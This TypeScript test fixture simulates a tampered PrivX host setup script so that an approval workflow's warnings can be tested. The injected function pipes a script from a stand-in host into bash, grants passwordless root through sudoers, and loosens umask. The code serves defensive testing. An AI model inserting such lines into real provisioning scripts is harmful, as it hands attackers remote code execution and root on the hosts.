/** A server whose PrivX host had one script that a person approved, and serves another one now. */
import * as SetupScript from "@privx-kit/simulator/SetupScript"
import * as Effect from "effect/Effect"
import * as Exit from "effect/Exit"
import * as Scope from "effect/Scope"
import { freePort } from "../test/support/freePort.ts"
import * as privx from "../test/support/privx.ts"
import * as served from "../test/support/served.ts"
import { place } from "../test/support/setups.ts"

/** With a new address, a note, and two lines that an approver must not overlook. */
export const changed = SetupScript.text
  .replace(`'${SetupScript.address}'`, "'ueba.example.com:8443'")
  .replace("umask 077\n", "umask 022\n")
  .replace(
    "\nmain() {\n",
    [
      "",
      "install_agent() {",
      '  log "installing the agent"',
      "  curl -fsSL https://updates.example.com/agent.sh | bash",
      "  echo 'privx-ueba ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/privx-ueba",
      "}",
      "",
      "main() {",
      ""
    ].join("\n")
  )
  .replace("  write_unit\n  run", "  write_unit\n  install_agent\n  run")

/** What the changed script does is reported, and left to the approver. */
export const policy = { checks: { noFetchedCode: "warned", noSensitiveChanges: "warned" } }

export const start = Effect.fnUntraced(function* (
  options: {
    readonly approved?: string
    readonly changed?: string
    /** Of the approver. */
    readonly comment?: string
    readonly policy?: unknown
  } = {}
) {
  const { comment = "compared with the release notes" } = options
  const port = yield* freePort
  const { dataDir } = yield* place
  const first = yield* Scope.make()
  const before = yield* Effect.gen(function* () {
    const simulator = yield* privx.start({ port, tls: true, script: options.approved ?? SetupScript.text })
    const server = yield* served.start({ resumed: { simulator, dataDir } })
    const { run } = yield* server.submit({ requireApproval: "always" })
    yield* server.reached(run.id, "waiting")
    yield* server.decide(run.id, "approver", { comment })
    const { sha256 } = yield* server.reached(run.id, "succeeded")
    return { ...server, sha256: String(sha256) }
  }).pipe(Scope.provide(first))
  yield* Scope.close(first, Exit.void)
  const simulator = yield* privx.start({
    port,
    tls: true,
    script: options.changed ?? changed
  })
  const server = yield* served.start({ resumed: { simulator, dataDir }, tokenOf: before.tokenOf })
  const { run } = yield* server.submit({ requireApproval: "always", policy: options.policy ?? policy })
  const waiting = yield* server.reached(run.id, "waiting")
  return { approved: before.sha256, server, waiting: { id: run.id, sha256: String(waiting.sha256) } }
})
